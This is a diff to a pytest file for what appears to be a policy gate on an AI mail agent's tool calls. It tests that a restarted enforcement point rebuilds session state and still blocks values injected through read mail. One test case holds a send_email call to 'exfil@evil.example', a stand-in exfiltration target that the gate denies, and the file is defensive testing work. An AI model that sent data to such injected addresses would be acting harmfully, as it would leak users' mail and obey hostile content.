@@ -122,13 +122,38 @@ def test_a_process_that_missed_earlier_results_holds_sinks_for_a_human(
     with first.session(credential=mail_agent.credential, warrant=mail_agent.warrant,
                        agent_key=mail_agent.key):
         read_inbox()  # type: ignore[operator]
-    # A restarted PEP has an empty ledger for a task that already ran calls.
+    # The result was never kept for other processes (lost with a crashed gateway, say):
+    # a restarted PEP cannot vouch for the session.
+    with domain.store._conn:  # type: ignore[attr-defined]  # reach past the API on purpose
+        domain.store._conn.execute("DELETE FROM flow_observations")  # type: ignore[attr-defined]
     restarted = Pipeline(domain)
     decision = restarted.decide(mail_agent.request_call(ToolCall(
         tool="send_email", arguments={"to": "alice@corp.example", "body": "x"})))
     assert decision.effect is Effect.NEEDS_APPROVAL
-    assert any("did not see" in note for note in
+    assert any("has not seen" in note for note in
                restarted.domain.audit.get(decision.audit_seq).record.detail["flow"]["notes"])  # type: ignore[arg-type, index]
+
+
+@pytest.mark.claim("flow.fail-closed")
+def test_a_restarted_pep_rebuilds_the_session_and_still_stops_injected_values(
+        domain: TrustDomain, mail_agent: AgentKit) -> None:
+    ledgers = SessionLedgers(domain.store, domain.config, injected_block)
+    first = Guard(domain, Pipeline(domain, ledgers=ledgers))
+    read_inbox, _, _ = tools(first)
+    with first.session(credential=mail_agent.credential, warrant=mail_agent.warrant,
+                       agent_key=mail_agent.key):
+        read_inbox()  # type: ignore[operator]
+    # A new process (a restarted gateway, the next hook invocation) replays what the
+    # task saw: the user's own destination passes, the injected one is still denied.
+    restarted = Pipeline(domain, ledgers=SessionLedgers(domain.store, domain.config,
+                                                        injected_block))
+    ok = restarted.decide(mail_agent.request_call(ToolCall(
+        tool="send_email", arguments={"to": "alice@corp.example", "body": "Bob: lunch."})))
+    assert ok.effect is Effect.ALLOW, ok.reasons
+    bad = restarted.decide(mail_agent.request_call(ToolCall(
+        tool="send_email", arguments={"to": "exfil@evil.example", "body": "minutes"})))
+    assert bad.effect is Effect.DENY
+    assert "flow.forbid-injected-values" in str(bad.reasons)
 
 
 @pytest.mark.claim("flow.secrets-stay-in")
